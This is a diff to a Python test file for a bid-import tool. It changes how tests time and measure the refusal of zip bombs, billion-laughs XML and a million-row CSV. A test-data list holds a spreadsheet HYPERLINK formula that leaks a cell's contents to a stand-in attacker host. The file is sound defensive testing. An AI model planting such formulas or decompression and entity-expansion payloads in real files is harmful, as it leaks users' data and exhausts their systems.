@@ -7,12 +7,11 @@ import io
 import json
 import os
 import sys
-import time
-import tracemalloc
 import zipfile
 
 import openpyxl
 import pytest
+from tests.refusal_cost import refusal_cost
 
 from clusterbid.core.errors import InputError
 from clusterbid.core.interchange import (
@@ -29,6 +28,13 @@ from clusterbid.core.interchange import (
     write_template_xlsx,
     xlsx_guard,
 )
+
+
+def _refusal_cost(path):
+    """CPU and memory of refusing `path`, in a child of its own (refusal_cost says why)."""
+    setup = "from clusterbid.core.interchange import import_bids"
+    return refusal_cost(setup, "import_bids(ARGS[0])", str(path))
+
 
 HOSTILE_TEXT = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -111,18 +117,13 @@ def test_xlsx_zip_bomb_is_refused_fast_and_without_memory_growth(tmp_path, size_
     path = tmp_path / "bomb.xlsx"
     _bomb(path, size_mb * 1024 * 1024)
     assert path.stat().st_size < size_mb * 1024 * 1024 / 500  # it really is a bomb
-    tracemalloc.start()
-    cpu_before = time.process_time()  # CPU seconds: the same on a busy machine
-    try:
-        with pytest.raises(UnsafeFileError, match="bomb") as refused:
-            import_bids(path)
-        elapsed = time.process_time() - cpu_before
-        _, peak = tracemalloc.get_traced_memory()
-    finally:
-        tracemalloc.stop()
-    assert elapsed < 1.0
-    assert peak < 100 * 1024 * 1024
+    with pytest.raises(UnsafeFileError, match="bomb") as refused:
+        import_bids(path)
     assert "bomb.xlsx" in str(refused.value)
+    cost = _refusal_cost(path)
+    assert cost.refused_with(UnsafeFileError)
+    assert cost.cpu_seconds < 1.0
+    assert cost.memory_growth_mib < 100
 
 
 BILLION_LAUGHS = (
@@ -149,10 +150,10 @@ def test_xml_entity_expansion_is_refused(tmp_path, bids):
     good = write_template_xlsx(tmp_path / "good.xlsx", bids)
     hostile = tmp_path / "laughs.xlsx"
     _with_part(good, hostile, "xl/worksheets/sheet1.xml", BILLION_LAUGHS)
-    cpu_before = time.process_time()  # CPU seconds: the same on a busy machine
     with pytest.raises(UnsafeFileError, match="laughs.xlsx.*(entities|DTD)"):
         import_bids(hostile)
-    assert time.process_time() - cpu_before < 1.0
+    cost = _refusal_cost(hostile)
+    assert cost.refused_with(UnsafeFileError) and cost.cpu_seconds < 1.0
 
 
 def test_defusedxml_refuses_entities_even_without_our_pre_scan(tmp_path, bids, monkeypatch):
@@ -201,12 +202,12 @@ def test_truncated_xlsx_is_refused(tmp_path, bids):
 def test_csv_with_a_million_rows_is_refused_quickly(tmp_path):
     path = tmp_path / "huge.csv"
     path.write_text("id,quote.provider\n" + "x,y\n" * 1_000_000, encoding="utf-8")
-    cpu_before = time.process_time()  # CPU seconds: the same on a busy machine
     with pytest.raises(
         FileTooLargeError, match=f"huge.csv: more than {limits.MAX_BIDS:,} bid rows"
     ):
         import_bids(path)
-    assert time.process_time() - cpu_before < 5.0
+    cost = _refusal_cost(path)
+    assert cost.refused_with(FileTooLargeError) and cost.cpu_seconds < 5.0
 
 
 @pytest.mark.parametrize("size", [5_000, 1024 * 1024])
